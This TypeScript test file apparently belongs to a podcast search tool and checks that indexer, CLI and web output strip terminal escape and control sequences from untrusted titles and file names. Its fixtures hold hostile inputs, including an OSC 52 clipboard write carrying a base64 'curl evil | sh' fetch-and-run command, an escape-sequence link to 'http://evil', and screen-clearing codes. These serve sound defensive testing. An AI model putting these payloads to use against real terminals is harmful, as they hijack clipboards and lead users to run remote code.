import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { test } from 'node:test';
import { meiliClient } from '../../adapters/meili/meili-client.ts';
import { meiliSearch } from '../../adapters/meili/meili-search.ts';
import { render } from '../../bin/search-command.ts';
import { progressReporter } from '../../indexer/pipeline/progress.ts';
import { indexNames } from '../../src/documents/index-settings.ts';
import type { SearchResponse } from '../../src/search/search-results.ts';
import { oneLine, terminalText } from '../../src/terminal-text.ts';
import { createApp } from '../../web/app.ts';
import { listen, startStack } from '../support/stack.ts';
import { testdir } from '../support/testdir.ts';

// An OSC 52 clipboard write (base64 of "curl evil | sh"), then "clear the screen": what a hostile title can do to a
// terminal that prints it raw. YAML's double-quoted \e and \a are ESC and BEL.
const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07';
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const hostileName = `\x1b[2Jesc\x07name`;
const dir = await testdir({
  'osc.md': '---\ntitle: "Clipboard \\e]52;c;Y3VybCBldmlsIHwgc2g=\\a\\e[2J lighthouse"\n---\n## Summary\nAbout the lighthouse keeper.\n',
  [`${hostileName}.md`]: '---\ntitle: Named\n---\n## Summary\nAnother lighthouse.\n',
  [`${hostileName}-bad.md`]: '---\ntitle: [unclosed\n---\n',
});
const stack = await startStack(dir, { OPENAI_API_KEY: '', OPENAI_BASE_URL: '' });

async function run(args: string[], env: NodeJS.ProcessEnv = stack.env): Promise<{ code: number; out: string }> {
  const child = spawn(process.execPath, args, { env, stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
  child.stderr.on('data', (chunk: Buffer) => (out += chunk.toString()));
  const [code] = (await once(child, 'exit')) as [number];
  return { code, out };
}

test('`npm run index` prints file names with ESC in them, and errors quoting them, without a control character', async () => {
  // --verbose: a notes-only episode has a line of its own only then; the file named in it is the point here.
  const { out } = await run(['indexer/commands/index-command.ts', '--verbose']);
  // Slugs are URL-safe since issue 10: the escape sequence's bytes became `-` in the episode's slug.
  assert.match(out, /^\[\d\/2\] [a-z0-9-]*esc-name: indexed/m, 'the file is still named, minus its escape sequence and BEL');
  assert.match(out, /^✗ .*\/escname-bad\.md: the YAML front matter does not parse/m);
  assert.doesNotMatch(out, CONTROL, JSON.stringify(out));
});

test('`npm run search` prints a hostile title without its escape sequences', async () => {
  const { code, out } = await run(['bin/podgrep.ts', 'search', 'lighthouse'], { ...stack.env, PUBLIC_URL: 'https://search.example.com' });
  assert.equal(code, 0, out);
  assert.match(out, /^Clipboard {2}lighthouse$/m, 'the title is printed, minus the sequences and their payload');
  assert.doesNotMatch(out, /Y3VybCBldmlsIHwgc2g=/);
  assert.doesNotMatch(out, CONTROL, JSON.stringify(out));
});

test("in colour, the only escape sequences printed are podgrep's own bold", () => {
  const results = {
    query: `x${CLIPBOARD}`,
    page: 1,
    totalEpisodes: 1,
    episodes: [
      {
        slug: 's',
        title: `T${CLIPBOARD}\x1b[2J`,
        url: '/episodes/s',
        date: null,
        podcast: null,
        tags: [],
        guests: [],
        panel: [],
        notes: [{ field: 'summary', snippet: 'a <mark>lighthouse</mark> &#27;[2J&#7; b' }],
        moments: [{ at: 61, url: '/episodes/s?t=61', snippet: `<mark>x</mark>\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\` }],
      },
    ],
  } as unknown as SearchResponse;
  const out = render(results, 'https://search.example.com', true);
  const withoutOurs = out.replaceAll('\x1b[1m', '').replaceAll('\x1b[22m', '');
  assert.doesNotMatch(withoutOurs, CONTROL, JSON.stringify(out));
  assert.match(out, /summary: a \x1b\[1mlighthouse\x1b\[22m {2}b/, 'an escape spelled as an HTML reference is removed too');
  assert.match(out, /\x1b\[1mx\x1b\[22mlink/);
});

test('progress lines: slugs and stages from content cannot move the cursor, in a terminal or a log', () => {
  for (const isTTY of [false, true]) {
    let written = '';
    const stream = { isTTY, columns: 100, write: (chunk: string) => ((written += chunk), true) } as unknown as NodeJS.WriteStream;
    const progress = progressReporter(stream, 2);
    progress.update(`evil\x1b[2J\x1b[1A`, `downloading ${CLIPBOARD}`);
    progress.finish(`evil\x1b[2J\x1b[1A`, { kind: 'failed', text: `failed: audio_url "a\nfake line\x08\x08" is not audio` });
    progress.log(`✗ episodes/\x1b[31mred.md: line\nnext`);
    progress.done();
    // In a terminal the reporter's own redraw codes remain: cursor up N lines, clear below.
    const foreign = written.replace(/\x1b\[\d+A\x1b\[J/g, '');
    assert.doesNotMatch(foreign, CONTROL, `${isTTY}: ${JSON.stringify(written)}`);
    assert.match(written, /evil: failed: audio_url "a fake line" is not audio/);
    assert.match(written, /✗ episodes\/red\.md: line\nnext/, 'a multi-line message keeps its lines');
  }
});

test('the sanitizer removes sequences whole and lone controls, keeps text, and folds lines where asked', () => {
  assert.equal(terminalText(`a${CLIPBOARD}b\x1b[31mc\x1b\\d\x9b2Je\x00f\u202eg\r\nh`), 'abc\\defg\nh');
  assert.equal(oneLine('one\ntwo\tthree'), 'one two three');
  assert.equal(oneLine('café — 東京 🎙'), 'café — 東京 🎙');
});

test('web: a query of only control characters is empty, not "everything"', async () => {
  await stack.index();
  for (const q of ['%00', '%02%03', '%1b%07', '%00%20%0a']) {
    const api = await fetch(`${stack.web}/api/search?q=${q}`);
    assert.equal(api.status, 400, q);
    assert.match(((await api.json()) as { error: string }).error, /the query "q" is empty/);
    const page = await fetch(`${stack.web}/search?q=${q}`, { redirect: 'manual' });
    assert.equal(page.status, 302, q);
  }
  assert.equal((await fetch(`${stack.web}/api/search?q=lighthouse`)).status, 200);
});

test('episode pages are rate limited like searches; their audio is not', async () => {
  const web = await listen(
    createApp({
      search: meiliSearch(meiliClient(stack.meili), indexNames(stack.config.meili.indexPrefix)),
      episodesDir: dir,
      rateLimit: 3,
    }),
  );
  const audio = [];
  for (let i = 0; i < 6; i++) audio.push((await fetch(`${web}/episodes/osc/audio`)).status);
  assert.ok(!audio.includes(429), String(audio));
  const pages = [];
  for (let i = 0; i < 6; i++) pages.push((await fetch(`${web}/episodes/osc`)).status);
  assert.deepEqual(pages.slice(0, 3), [200, 200, 200]);
  assert.equal(pages.at(-1), 429);
});
